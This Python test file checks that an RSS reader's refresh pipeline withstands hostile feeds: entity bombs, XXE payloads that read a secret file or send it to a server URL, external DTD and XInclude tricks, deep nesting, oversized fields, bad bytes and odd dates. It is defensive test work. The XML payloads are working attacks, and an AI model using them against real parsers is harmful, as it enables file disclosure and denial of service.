"""Hostile feed documents, served by a real local server and read through the whole refresh pipeline.

Each must end with the refresh finished, nothing from outside the document read or fetched, what
was stored bounded and clean, and `newsdesk` still able to list and show it.
"""

from __future__ import annotations

import json
import re
import sqlite3
import subprocess
import sys
import textwrap
import tracemalloc
import uuid
from datetime import datetime, timezone
from email.utils import format_datetime
from xml.sax.saxutils import escape

import pytest

from reader.fetch import FetchLimits
from reader.models import StoryFilter
from reader.refresh import MAX_STORIES_PER_FETCH, refresh
from reader.store import Store
from tests.conftest import T0, cli
from tests.httpserver import MB
from tests.test_refresh import rss

LIMITS = FetchLimits(connect_timeout=2, read_timeout=5, total_timeout=20)
ROOT = __file__.rsplit("/tests/", 1)[0]


def do_refresh(db_path, clock, **kw):
    return refresh(db_path, clock=clock, limits=LIMITS, **kw)


def everything_stored(db_path) -> str:
    """Every text value in every table, for "this must appear nowhere" checks."""
    conn = sqlite3.connect(db_path)
    try:
        tables = [r[0] for r in conn.execute(
            "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'stories_fts%'")]
        parts = []
        for table in tables:
            for row in conn.execute(f"SELECT * FROM [{table}]"):
                parts.extend(str(v) for v in row if v is not None)
        return "\n".join(parts)
    finally:
        conn.close()


def date(ts: float) -> str:
    return format_datetime(datetime.fromtimestamp(ts, timezone.utc))


def item(guid: str | None, title: str, link: str | None = None, published: float | None = None,
         description: str = "") -> str:
    parts = ["<item>"]
    if guid is not None:
        parts.append(f"<guid isPermaLink='false'>{escape(guid)}</guid>")
    parts.append(f"<title>{escape(title)}</title>")
    if link is not None:
        parts.append(f"<link>{escape(link)}</link>")
    if published is not None:
        parts.append(f"<pubDate>{date(published)}</pubDate>")
    if description:
        parts.append(f"<description>{escape(description)}</description>")
    parts.append("</item>")
    return "".join(parts)


def channel(items: list[str], title: str = "Hostile", prolog: str = "") -> str:
    return (f'<?xml version="1.0" encoding="utf-8"?>{prolog}<rss version="2.0"><channel>'
            f"<title>{escape(title)}</title><link>https://hostile.example/</link>{''.join(items)}"
            "</channel></rss>")


# -- entities -----------------------------------------------------------------------------------

LAUGHS = (
    '<!DOCTYPE rss [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{("&lol" + (str(n - 1) if n > 1 else "") + ";") * 10}">' for n in range(1, 10))
    + "]>"
)


def test_billion_laughs_neither_expands_nor_stops_the_refresh(server, store, db_path, clock):
    ok = store.add_feed(server.add("/ok.xml", rss("OK", [("o", "Fine")])))
    body = channel(
        [item("a", "Title &lol9;", description="Body &lol9;")], title="Laughs &lol9;", prolog=LAUGHS
    ).replace("&amp;lol9;", "&lol9;")
    bad = store.add_feed(server.add("/laughs.xml", body))
    tracemalloc.start()
    try:
        do_refresh(db_path, clock)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 30 * MB  # 10^9 "lol"s would be 3 GB
    assert store.count_stories(StoryFilter(feed_id=ok.id)) == 1
    for path in ((), ("feedparser",)):  # the parse itself, in a process of its own
        result = parse_in_a_subprocess(body.encode(), *path)
        assert result["grew_mb"] < 30 and result["cpu_seconds"] < 2, result  # about 0.003 s
    stored = everything_stored(db_path)
    assert "lollol" not in stored
    feed = store.get_feed(bad.id)
    assert "entities" in (feed.warning or feed.last_error or "")


def test_a_large_entity_used_many_times_is_not_expanded(server, store, db_path, clock):
    big = "x" * 10_000
    body = channel([item("a", "Quadratic", description="&big;" * 2_000)],
                   prolog=f'<!DOCTYPE rss [<!ENTITY big "{big}">]>').replace("&amp;big;", "&big;")
    feed = store.add_feed(server.add("/quadratic.xml", body))
    do_refresh(db_path, clock)
    assert "x" * 10_000 not in everything_stored(db_path)  # 20 MB of x's were never made
    assert store.get_feed(feed.id).warning


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret.txt"
    path.write_text("TOPSECRET-" + uuid.uuid4().hex)
    return path


def xxe_documents(secret_path, server) -> dict[str, str]:
    file_url = secret_path.as_uri()
    http = server.url("/xxe/")
    story = item("a", "Title &ext;", description="Body &ext;").replace("&amp;ext;", "&ext;")
    plain = item("a", "Plain")
    return {
        "file entity": channel([story], prolog=f'<!DOCTYPE rss [<!ENTITY ext SYSTEM "{file_url}">]>'),
        "http entity": channel([story], prolog=f'<!DOCTYPE rss [<!ENTITY ext SYSTEM "{http}entity">]>'),
        "public entity": channel(
            [story], prolog=f'<!DOCTYPE rss [<!ENTITY ext PUBLIC "-//X//Y" "{http}public">]>'),
        "parameter entity": channel(
            [plain], prolog=f'<!DOCTYPE rss [<!ENTITY % p SYSTEM "{http}param"> %p;]>'),
        "parameter entity reading a file": channel([story], prolog=(
            f'<!DOCTYPE rss [<!ENTITY % f SYSTEM "{file_url}">'
            f'<!ENTITY % d "<!ENTITY ext SYSTEM \'{http}leak?%f;\'>"> %d;]>')),
        "external DTD": channel([plain], prolog=f'<!DOCTYPE rss SYSTEM "{http}dtd">'),
        "external DTD with a file entity": channel(
            [story], prolog=f'<!DOCTYPE rss SYSTEM "{http}dtd2" [<!ENTITY ext SYSTEM "{file_url}">]>'),
        "XInclude": channel([item("a", "Plain").replace(
            "</item>",
            f'<description><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file_url}"'
            ' parse="text"/></description></item>')]),
        "stylesheet": f'<?xml version="1.0"?><?xml-stylesheet href="{http}style.xsl"?>'
                      + channel([plain]).split("?>", 1)[1],
        "entity in an ill-formed document": channel(
            [story + "<unclosed>"], prolog=f'<!DOCTYPE rss [<!ENTITY ext SYSTEM "{file_url}">]>'),
        "entity in an Atom feed": (
            f'<?xml version="1.0"?><!DOCTYPE feed [<!ENTITY ext SYSTEM "{file_url}">]>'
            '<feed xmlns="http://www.w3.org/2005/Atom"><title>A &ext;</title><entry><id>x</id>'
            "<title>T &ext;</title><content>&ext;</content></entry></feed>"),
    }


def test_external_entities_are_never_read_or_fetched(server, store, db_path, clock, secret):
    for route in ("entity", "public", "param", "leak", "dtd", "dtd2", "style.xsl"):
        server.add(f"/xxe/{route}", f"<!ENTITY ext 'FETCHED-{route}'>", content_type="application/xml-dtd")
    docs = xxe_documents(secret, server)
    feeds = {name: store.add_feed(server.add(f"/doc{n}.xml", body)) for n, (name, body) in enumerate(docs.items())}
    summary = do_refresh(db_path, clock)
    assert len(summary.feeds) == len(docs)
    assert [r.path for r in server.requests if r.path.startswith("/xxe/")] == []
    stored = everything_stored(db_path)
    assert "TOPSECRET" not in stored and "FETCHED-" not in stored
    for name, feed in feeds.items():
        got = store.get_feed(feed.id)
        assert got.last_error or store.count_stories(StoryFilter(feed_id=feed.id)) >= 1, name
    for row in store.list_stories():
        _, out, _ = cli(db_path, "show", str(row.id))
        assert "TOPSECRET" not in out and "FETCHED-" not in out


# -- size -----------------------------------------------------------------------------------------


@pytest.mark.slow
def test_twenty_thousand_items_are_capped_to_the_newest(server, store, db_path, clock):
    n = 20_000
    items = [item(f"id-{i}", f"Story {i}", f"https://big.example/{i}", T0 - 60 * i) for i in range(n)]
    items.reverse()  # oldest first, as some archives list them: the cap must still keep the newest
    big = store.add_feed(server.add("/big.xml", channel(items, title="Archive")))
    ok = store.add_feed(server.add("/ok.xml", rss("OK", [("o", "Fine")])))
    summary = do_refresh(db_path, clock)
    assert store.count_stories(StoryFilter(feed_id=ok.id)) == 1
    assert not summary.failed
    assert store.count_stories(StoryFilter(feed_id=big.id)) == MAX_STORIES_PER_FETCH
    newest = store.list_stories(StoryFilter(feed_id=big.id), limit=1)[0]
    assert newest.title == "Story 0"
    assert store.list_stories(StoryFilter(feed_id=big.id))[-1].title == f"Story {MAX_STORIES_PER_FETCH - 1}"
    assert "20,000 stories" in store.get_feed(big.id).warning
    code, out, _ = cli(db_path, "feeds")
    assert code == 0 and "5000" in out
    # linear work: about 0.6 s of CPU to parse all 20,000 in a process of its own
    assert parse_in_a_subprocess(channel(items).encode())["cpu_seconds"] < 10


def test_a_five_megabyte_title_is_cut_short(server, store, db_path, clock):
    title = "Breaking " * (5 * MB // 9)
    body = channel(  # under the 10 MB a response may have
        [item("a", title, "https://t.example/a", T0 - 60, description="Short body.")], title=title[:2 * MB])
    feed = store.add_feed(server.add("/title.xml", body))
    do_refresh(db_path, clock)
    for path in ((), ("feedparser",)):
        assert parse_in_a_subprocess(body.encode(), *path)["cpu_seconds"] < 5  # about 0.02 s (lxml)
    (row,) = store.list_stories(StoryFilter(feed_id=feed.id))
    assert row.title.startswith("Breaking Breaking") and len(row.title) <= 1_000
    assert len(store.get_feed(feed.id).title or "") <= 1_000
    code, out, _ = cli(db_path, "stories")
    assert code == 0 and len(out) < 5_000
    code, out, _ = cli(db_path, "feeds")
    assert code == 0 and len(out) < 5_000


def test_a_five_megabyte_body_is_cut_short(server, store, db_path, clock):
    feed = store.add_feed(server.add("/body.xml", channel(
        [item("a", "Long", "https://t.example/a", T0 - 60, description="<p>word </p>" * (3 * MB // 12))])))  # 6.5 MB escaped
    do_refresh(db_path, clock)
    (row,) = store.list_stories(StoryFilter(feed_id=feed.id))
    story = store.get_story(row.id)
    assert 0 < len(story.text) <= 200_000


@pytest.mark.parametrize("depth", [50_000])
def test_deeply_nested_markup_is_read_or_refused_in_words(server, store, db_path, clock, depth):
    html = "<div>" * depth + "deep inside" + "</div>" * depth
    escaped = store.add_feed(server.add("/escaped.xml", channel(
        [item("a", "Escaped", "https://n.example/a", T0 - 60, description=html)])))
    cdata = store.add_feed(server.add("/cdata.xml", channel(
        [item("b", "CDATA", "https://n.example/b", T0 - 60)]).replace(
        "</item>", f"<description><![CDATA[{html}]]></description></item>")))
    unclosed = store.add_feed(server.add("/unclosed.xml", channel(
        [item("c", "Unclosed", "https://n.example/c", T0 - 60)]).replace(
        "</item>", "<x>" * depth + "</item>")))
    nested_xml = store.add_feed(server.add("/nested.xml", channel(
        [item("d", "Nested", "https://n.example/d", T0 - 60)]).replace(
        "</item>", "<x>" * depth + "</x>" * depth + "</item>")))
    summary = do_refresh(db_path, clock)
    assert len(summary.feeds) == 4
    # a story's HTML is text to the feed: its depth is the HTML reader's business, and it copes
    for feed in (escaped, cdata):
        (row,) = store.list_stories(StoryFilter(feed_id=feed.id))
        assert "deep inside" in store.get_story(row.id).text
    for feed in (unclosed, nested_xml):
        assert "nested too deeply to read" in store.get_feed(feed.id).last_error
        assert store.count_stories(StoryFilter(feed_id=feed.id)) == 0
    code, out, _ = cli(db_path, "feeds")
    assert code == 0 and out.count("nested too deeply to read") == 2


PARSE_PROBE = textwrap.dedent(
    """
    import json, resource, sys, time
    from reader.parse import _parse_with_feedparser, parse_feed
    if sys.argv[1:] == ["feedparser"]:
        parse_feed = _parse_with_feedparser
    body = sys.stdin.buffer.read()
    parse_feed(b"<rss version='2.0'><channel><item><title>warm</title></item></channel></rss>", "")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.process_time()
    parsed = parse_feed(body, "https://hostile.example/feed", "application/rss+xml")
    print(json.dumps({"cpu_seconds": time.process_time() - started, "error": parsed.error,
                      "warning": parsed.warning, "titles": [s.title for s in parsed.stories],
                      "grew_mb": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024}))
    """
)


def parse_in_a_subprocess(body: bytes, *args: str) -> dict:
    """parse_feed on ``body`` in a fresh process: its result, the CPU time it took and how much the
    process's peak memory grew while it ran (the body itself is read before). With "feedparser",
    without the lxml fast path."""
    proc = subprocess.run([sys.executable, "-c", PARSE_PROBE, *args], input=body, capture_output=True,
                          timeout=600, cwd=ROOT)  # a guard against hanging, not a measurement
    assert proc.returncode == 0, proc.stderr.decode()
    return json.loads(proc.stdout)


@pytest.mark.parametrize("shape", ["well-formed", "ill-formed"])
def test_an_element_with_sixty_thousand_attributes_is_parsed_quickly(shape):
    attributes = " ".join(f"a{i}='1'" for i in range(60_000))
    body = channel([item("a", "Attributes").replace("</item>", f"<x {attributes}/></item>")])
    if shape == "ill-formed":
        body = body.replace("</rss>", "")  # feedparser's turn
    result = parse_in_a_subprocess(body.encode())
    assert result["titles"] == ["Attributes"]
    assert "more than 100 attributes; the rest were ignored" in result["warning"]
    # Linear work on 700 KB is about 0.05 s of CPU; feedparser's quadratic lookups on all 60,000
    # attributes took about 30 s. The bound is 60 times the one and a tenth of the other.
    assert result["cpu_seconds"] < 3, result


@pytest.mark.parametrize("shape", ["<x>", "<x/><>", "<br>", "<x", "<a:b c='d'>"])
def test_a_million_open_elements_are_refused_without_reading_them(shape):
    # 3 MB of elements that never close took 11 s and 650 MB before; counting them stops at 1,000
    body = channel([item("a", "Deep").replace("</item>", shape * 1_000_000 + "</item>")]).encode()
    result = parse_in_a_subprocess(body)
    assert result["error"] == ("the feed is nested too deeply to read: more than 1,000 elements"
                               " inside one another, which no real feed has")
    assert result["grew_mb"] < 20, result  # the refusal holds nothing; the body was read before
    assert result["cpu_seconds"] < 3, result  # about 0.05 s


@pytest.mark.parametrize("shape", ["closed", "unclosed <br> in CDATA", "self-closing"])
def test_long_feeds_with_much_markup_are_not_mistaken_for_deep_ones(shape):
    # 900 levels is deep but allowed; an unclosed <br> in a story's HTML ends with its element; and
    # thousands of <x/> open nothing
    if shape == "closed":
        inner = "<x>" * 900 + "deep" + "</x>" * 900
        stories = [item("a", "Deep").replace("</item>", inner + "</item>")]
    elif shape == "unclosed <br> in CDATA":
        cdata = "<description><![CDATA[" + "line<br>" * 600 + "]]></description>"
        stories = [item(f"i{n}", f"Story {n}").replace("</item>", cdata + "</item>") for n in range(20)]
    else:
        stories = [item(f"i{n}", f"Story {n}").replace("</item>", "<x/>" * 600 + "</item>")
                   for n in range(20)]
    body = channel(stories)
    result = parse_in_a_subprocess(body.encode(), "feedparser")  # the path that counts
    assert result["error"] is None, result
    assert result["titles"] == [re.search(r"<title>(.*?)</title>", s).group(1) for s in stories]


# -- bytes ----------------------------------------------------------------------------------------

SHOW_PROBE = "import sys; from reader.cli import main; sys.exit(main())"


def show_in_a_subprocess(db_path, story_id: int) -> subprocess.CompletedProcess:
    """`newsdesk show` with a real UTF-8 stdout: a lone surrogate in stored text would raise here."""
    return subprocess.run([sys.executable, "-c", SHOW_PROBE, "--db", str(db_path), "show", str(story_id)],
                          capture_output=True, timeout=30, cwd=ROOT,
                          env={"PATH": "/usr/bin:/bin", "PYTHONIOENCODING": "utf-8", "HOME": str(db_path.parent)})


def test_invalid_utf8_is_stored_as_text_that_prints(server, store, db_path, clock):
    body = (b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Bad \xff\xfe'
            b"</title><item><guid>u1</guid><title>Caf\xe9 \xc3\x28 \xed\xa0\x80 surrogate</title>"
            b"<description>Body \x80\x81 \xf0\x28\x8c\x28</description></item></channel></rss>")
    feed = store.add_feed(server.add("/utf8.xml", body))
    do_refresh(db_path, clock)
    (row,) = store.list_stories(StoryFilter(feed_id=feed.id))
    story = store.get_story(row.id)
    for text in (story.title, story.text, story.feed_title):
        text.encode("utf-8")  # no lone surrogates
    proc = show_in_a_subprocess(db_path, row.id)
    assert proc.returncode == 0, proc.stderr
    assert "surrogate" in proc.stdout.decode("utf-8")


@pytest.mark.parametrize("where", ["start", "middle"])
def test_nul_bytes_never_reach_the_database(server, store, db_path, clock, where):
    padding = b"" if where == "start" else b"<!-- " + b"padding " * 1000 + b"-->"
    body = (b'<?xml version="1.0"?>' + padding + b'<rss version="2.0"><channel><title>N\x00UL</title>'
            b"<item><guid>a\x00b</guid><title>ti\x00tle</title><link>https://n.example/\x00x</link>"
            b"<description>bo\x00dy</description></item></channel></rss>")
    feed = store.add_feed(server.add("/nul.xml", body))
    ok = store.add_feed(server.add("/ok.xml", rss("OK", [("o", "Fine")])))
    do_refresh(db_path, clock)
    assert store.count_stories(StoryFilter(feed_id=ok.id)) == 1
    got = store.get_feed(feed.id)
    assert got.last_error or got.total == 0 or store.count_stories(StoryFilter(feed_id=feed.id)) == 1
    assert "\x00" not in everything_stored(db_path)
    for row in store.list_stories():
        assert show_in_a_subprocess(db_path, row.id).returncode == 0


def test_dates_far_away_or_unreadable_still_sort_and_print(server, store, db_path, clock):
    raw = {
        "year 1": "Mon, 01 Jan 0001 00:00:00 GMT",
        "year 9999": "Fri, 31 Dec 9999 23:59:59 GMT",
        "1900": "Mon, 01 Jan 1900 00:00:00 GMT",
        "year 3000": "3000-01-01T00:00:00Z",
        "words": "yesterday-ish, around teatime",
        "huge number": "99999999999999999999999",
        "negative": "-1",
        "empty": "",
        "tomorrow": date(T0 + 86400 * 2),
        "an hour ago": date(T0 - 3600),
    }
    items = [f"<item><guid>{n}</guid><title>{name}</title><pubDate>{value}</pubDate></item>"
             for n, (name, value) in enumerate(raw.items())]
    feed = store.add_feed(server.add("/dates.xml", channel(items)))
    summary = do_refresh(db_path, clock)
    assert not summary.failed
    rows = {r.title: r for r in store.list_stories(StoryFilter(feed_id=feed.id))}
    assert set(rows) == set(raw)
    for name in ("year 9999", "year 3000", "tomorrow", "words", "huge number", "empty"):
        assert rows[name].published == T0, name  # dated when first seen: never pinned to the top
    assert rows["an hour ago"].published == T0 - 3600
    assert rows["1900"].published == -2208988800
    for args in (["stories"], ["search", "year"]):
        code, out, _ = cli(db_path, *args)
        assert code == 0 and out
    for row in rows.values():
        code, out, _ = cli(db_path, "show", str(row.id))
        assert code == 0 and "Date:" in out


# -- ids --------------------------------------------------------------------------------------------


def test_duplicate_ids_within_a_feed_keep_the_first(server, store, db_path, clock):
    items = [item("same", "First version", "https://d.example/1", T0 - 60),
             item("same", "Second version", "https://d.example/2", T0 - 120),
             item("other", "Other", "https://d.example/3", T0 - 180),
             item("copy", "Other", "https://d.example/3", T0 - 180)]  # same story, another id
    feed = store.add_feed(server.add("/dup.xml", channel(items)))
    do_refresh(db_path, clock)
    assert [r.title for r in store.list_stories(StoryFilter(feed_id=feed.id))] == ["First version", "Other"]


def test_an_id_that_changes_on_every_fetch_does_not_flood_the_list(server, store, db_path, clock):
    def document() -> str:
        return channel([item(uuid.uuid4().hex, f"Story {i}", f"https://flood.example/{i}?utm_source=rss&s={i}",
                             T0 - 3600 * i) for i in range(30)])

    feed = store.add_feed(server.add("/flood.xml", document(), etag=False))
    do_refresh(db_path, clock)
    first = store.list_stories(StoryFilter(feed_id=feed.id))
    store.mark_read([first[0].id])
    store.mark_saved([first[1].id])
    for _ in range(4):
        server.add("/flood.xml", document(), etag=False)
        clock.advance(1800)
        summary = do_refresh(db_path, clock)
        assert summary.new == 0
    rows = store.list_stories(StoryFilter(feed_id=feed.id))
    assert [r.id for r in rows] == [r.id for r in first]
    assert rows[0].read and rows[1].saved and not rows[2].read


def test_an_id_and_date_that_change_on_every_fetch_are_recognised_by_link_and_title(
    server, store, db_path, clock
):
    def document() -> str:
        return channel([item(uuid.uuid4().hex, f"Story {i}", f"https://flood.example/{i}", clock.now)
                        for i in range(10)])

    feed = store.add_feed(server.add("/flood.xml", document(), etag=False))
    do_refresh(db_path, clock)
    for _ in range(3):
        clock.advance(600)
        server.add("/flood.xml", document(), etag=False)
        do_refresh(db_path, clock)
    assert store.count_stories(StoryFilter(feed_id=feed.id)) == 10


def test_numbers_that_are_not_decimal_digits_are_just_words(server, store, db_path, clock):
    """"²" and "①" are digits to str.isdigit() but not to a regular expression's \\d."""
    titles = ["E = mc² explained", "Top ③ stories", "Half ½ price", "Room 101 ⁴ and ₂", "٣ Arabic-Indic three"]
    feed = store.add_feed(server.add("/digits.xml", channel(
        [item(f"d{n}", t, f"https://d.example/{n}", T0 - 60 * n, description=t) for n, t in enumerate(titles)])))
    summary = do_refresh(db_path, clock)
    assert not summary.failed, summary.failed
    assert sorted(r.title for r in store.list_stories(StoryFilter(feed_id=feed.id))) == sorted(titles)
